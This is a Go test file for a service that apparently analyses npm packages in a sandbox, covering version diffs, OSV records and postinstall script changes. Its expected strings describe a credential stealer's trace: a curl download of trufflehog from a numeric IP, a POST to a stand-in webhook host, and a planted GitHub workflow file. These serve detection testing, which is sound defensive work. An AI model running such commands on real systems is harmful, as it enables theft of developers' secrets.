package api

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fumehood/fumehood/analysis"
	"github.com/fumehood/fumehood/store"
	"github.com/fumehood/fumehood/trace"
)

// seedEarlier stores version 4.1.2 of the fixture's package, analysed a
// day before it: the same run cut before the stealer's download and post.
func seedEarlier(t *testing.T, h *harness, later *store.Record) *store.Record {
	t.Helper()
	ctx := context.Background()
	f, err := os.Open(fixtureTrace)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	full, err := trace.Decode(z)
	if err != nil {
		t.Fatal(err)
	}
	cut := &trace.Trace{Phases: full.Phases}
	for _, e := range full.Events {
		if e.Seq < 2380 {
			cut.Events = append(cut.Events, e)
		}
	}
	cut.Processes = trace.BuildTable(cut, h.rules.Policy()).Processes()
	var buf bytes.Buffer
	if err := trace.Encode(&buf, cut); err != nil {
		t.Fatal(err)
	}
	digest, err := h.blobs.Put(ctx, &buf)
	if err != nil {
		t.Fatal(err)
	}
	a := later.Analysis
	a.ID, a.Package.Version, a.Verdict, a.Hits = "earlier", "4.1.2", analysis.Suspicious, []analysis.Hit{{Rule: "cred-npm-token", Events: []uint64{1276}}}
	rec := &store.Record{Analysis: analysis.Analysis{ID: a.ID, Package: a.Package}, Submitted: later.Submitted.Add(-24 * time.Hour)}
	if err := h.st.Create(ctx, rec); err != nil {
		t.Fatal(err)
	}
	if err := h.st.Complete(ctx, &a, digest); err != nil {
		t.Fatal(err)
	}
	got, err := h.st.Get(ctx, a.ID)
	if err != nil {
		t.Fatal(err)
	}
	return got
}

func TestDiff(t *testing.T) {
	h := newHarness(t)
	later := seedFixture(t, h.st, h.blobs)
	earlier := seedEarlier(t, h, later)

	check := func(what string, c analysis.Changes) {
		t.Helper()
		if c.From != earlier.ID || c.To != later.ID {
			t.Errorf("%s: from %s to %s, want %s to %s", what, c.From, c.To, earlier.ID, later.ID)
		}
		for _, w := range []struct {
			in   []string
			want string
		}{
			{c.Hits.Added, "honeytoken-exfil"},
			{c.Processes.Added, "install package_code /usr/bin/curl curl -s -L http://203.0.113.40/trufflehog_linux_amd64.tar.gz -o /tmp/th.tgz"},
			{c.Network.Added, "install http POST webhook-site.invalid/<uuid>"},
			{c.Network.Added, "install dns A webhook-site.invalid"},
			{c.Files.Added, "install write /home/alex/projects/app/.github/workflows/shai-hulud-workflow.yml"},
		} {
			if !slices.Contains(w.in, w.want) {
				t.Errorf("%s: %q lacks %q", what, w.in, w.want)
			}
		}
		if len(c.Hits.Removed)+len(c.Processes.Removed)+len(c.Network.Removed)+len(c.Scripts.Changed) != 0 {
			t.Errorf("%s: removed or changed what both versions did: %+v", what, c)
		}
	}
	// A higher version analysed between the two is not the later one's
	// previous: versions compare by number, not by submission.
	higher := earlier.Analysis
	higher.ID, higher.Package.Version = "higher", "4.1.4"
	if err := h.st.Create(context.Background(), &store.Record{Analysis: analysis.Analysis{ID: higher.ID, Package: higher.Package},
		Submitted: later.Submitted.Add(-12 * time.Hour)}); err != nil {
		t.Fatal(err)
	}
	if err := h.st.Complete(context.Background(), &higher, earlier.TraceDigest); err != nil {
		t.Fatal(err)
	}
	var doc AnalysisResponse
	if resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+later.ID, "", &doc); resp.StatusCode != 200 || doc.ChangesFromPrevious == nil {
		t.Fatalf("GET the later analysis: %d, changes_from_previous %v", resp.StatusCode, doc.ChangesFromPrevious)
	}
	check("changes_from_previous", *doc.ChangesFromPrevious)
	var first AnalysisResponse
	h.json(store.RoleRead, "GET", "/v1/analyses/"+earlier.ID, "", &first)
	if first.ChangesFromPrevious != nil {
		t.Errorf("the first version has changes_from_previous %+v", first.ChangesFromPrevious)
	}
	for _, path := range []string{
		"/v1/analyses/" + later.ID + "/diff?against=" + earlier.ID,
		"/v1/diff?from=" + earlier.ID + "&to=" + later.ID,
		"/v1/diff?ecosystem=npm&name=ngx-form-kit&from=4.1.2&to=4.1.3",
	} {
		var c analysis.Changes
		if resp := h.json(store.RoleRead, "GET", path, "", &c); resp.StatusCode != 200 {
			t.Fatalf("%s: got %d", path, resp.StatusCode)
		}
		check(path, c)
	}
	for path, want := range map[string]int{
		"/v1/analyses/" + later.ID + "/diff":                           400,
		"/v1/analyses/" + later.ID + "/diff?against=absent":            404,
		"/v1/diff?from=" + earlier.ID:                                  400,
		"/v1/diff?ecosystem=npm&name=ngx-form-kit&from=4.1.2&to=9.9.9": 404,
		"/v1/diff?ecosystem=cargo&name=x&from=1&to=2":                  400,
		"/v1/diff?from=a&to=b&color=red":                               400,
	} {
		if resp := h.json(store.RoleRead, "GET", path, "", nil); resp.StatusCode != want {
			t.Errorf("%s: got %d, want %d", path, resp.StatusCode, want)
		}
	}
	// A package called diff, scoped or not, is still a package.
	if resp := h.json(store.RoleRead, "GET", "/v1/packages/npm/diff", "", nil); resp.StatusCode != 200 {
		t.Errorf("package history of diff: got %d", resp.StatusCode)
	}
	for _, path := range []string{"/diff?from=" + earlier.ID + "&to=" + later.ID, "/analyses/" + later.ID} {
		resp, body := h.page(store.RoleRead, path)
		if resp.StatusCode != http.StatusOK || !strings.Contains(body, "webhook-site.invalid/&lt;uuid&gt;") || !strings.Contains(body, `class="added"`) {
			t.Errorf("%s: %d, lacks the added POST\n%s", path, resp.StatusCode, h.logs)
		}
		checkHTML(t, path, body)
	}
}

func TestOSV(t *testing.T) {
	h := newHarness(t)
	mal := seedFixture(t, h.st, h.blobs)
	benign := h.seed("npm", "left-pad", "1.3.0", analysis.Benign, "", 3)
	queued, _, _ := h.sched.Submit(context.Background(), Submission{Spec: "npm:later@1.0.0"})
	var o struct {
		ID       string `json:"id"`
		Summary  string `json:"summary"`
		Affected []struct {
			Package  struct{ Ecosystem, Name string }
			Versions []string
		}
	}
	if resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+mal.ID+"/osv", "", &o); resp.StatusCode != 200 {
		t.Fatalf("osv of a malicious analysis: got %d", resp.StatusCode)
	}
	if o.ID != "x_fumehood-"+mal.ID || o.Summary != "Malicious code in ngx-form-kit (npm)" || len(o.Affected) != 1 ||
		o.Affected[0].Package.Name != "ngx-form-kit" || o.Affected[0].Versions[0] != "4.1.3" {
		t.Errorf("osv record %+v", o)
	}
	for id, want := range map[string]string{benign.ID: "is benign", queued.ID: "is queued", "absent": "not found"} {
		resp := h.json(store.RoleRead, "GET", "/v1/analyses/"+id+"/osv", "", nil)
		var e errorBody
		json.NewDecoder(resp.Body).Decode(&e)
		if resp.StatusCode != 404 || !strings.Contains(e.Error.Message, want) {
			t.Errorf("osv of %s: got %d %q, want 404 saying %q", id, resp.StatusCode, e.Error.Message, want)
		}
	}
}

// TestChangesFromPreviousScriptFiles: a version whose postinstall keeps
// its command and runs a rewritten file has it changed in its
// changes_from_previous and on its page; against a version recorded
// before script files were kept it is uncompared, and said so.
func TestChangesFromPreviousScriptFiles(t *testing.T) {
	files := func(d string) map[string]string { return map[string]string{"install.js": d} }
	tests := []struct {
		name           string
		before         map[string]string // nil: not recorded
		changed, uncmp []string
		page           string
	}{
		{"install.js rewritten", files("sha256:aaaa"),
			[]string{"install postinstall: node install.js (files changed: install.js)"}, []string{}, "~ <code>install postinstall: node install.js (files changed: install.js)</code>"},
		{"install.js kept", files("sha256:bbbb"), []string{}, []string{}, "Same behaviour."},
		{"earlier files not recorded", nil, []string{},
			[]string{"install postinstall: node install.js (files not compared: analysis v0 did not record them)"}, "? <code>install postinstall: node install.js (files not compared"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t)
			ctx := context.Background()
			var buf bytes.Buffer
			if err := trace.Encode(&buf, &trace.Trace{}); err != nil {
				t.Fatal(err)
			}
			digest, err := h.blobs.Put(ctx, &buf)
			if err != nil {
				t.Fatal(err)
			}
			for i, f := range []map[string]string{tt.before, files("sha256:bbbb")} {
				a := analysis.Analysis{ID: fmt.Sprintf("v%d", i), Verdict: analysis.Benign,
					Package: analysis.Package{Ecosystem: "npm", Name: "hijacked", Version: fmt.Sprintf("1.0.%d", i)},
					Coverage: analysis.Coverage{Scripts: []analysis.ScriptRun{{Phase: "install", Name: "postinstall", Command: "node install.js",
						Ran: true, Files: f, FilesDigest: analysis.ScriptFilesDigest(f)}}}}
				if err := h.st.Create(ctx, &store.Record{Analysis: analysis.Analysis{ID: a.ID, Package: a.Package}}); err != nil {
					t.Fatal(err)
				}
				if err := h.st.Complete(ctx, &a, digest); err != nil {
					t.Fatal(err)
				}
			}
			var doc AnalysisResponse
			if resp := h.json(store.RoleRead, "GET", "/v1/analyses/v1", "", &doc); resp.StatusCode != 200 || doc.ChangesFromPrevious == nil {
				t.Fatalf("GET v1: %d, changes_from_previous %v", resp.StatusCode, doc.ChangesFromPrevious)
			}
			if got := doc.ChangesFromPrevious.Scripts; !slices.Equal(got.Changed, tt.changed) || !slices.Equal(got.Uncompared, tt.uncmp) {
				t.Errorf("scripts changed %q uncompared %q, want %q and %q", got.Changed, got.Uncompared, tt.changed, tt.uncmp)
			}
			resp, body := h.page(store.RoleRead, "/analyses/v1")
			if resp.StatusCode != 200 {
				t.Fatalf("page: %d", resp.StatusCode)
			}
			checkHTML(t, "/analyses/v1", body)
			for _, want := range []string{tt.page, `<code title="sha256:bbbb">install.js</code>`} {
				if !strings.Contains(body, want) {
					t.Errorf("page lacks %q", want)
				}
			}
		})
	}
}
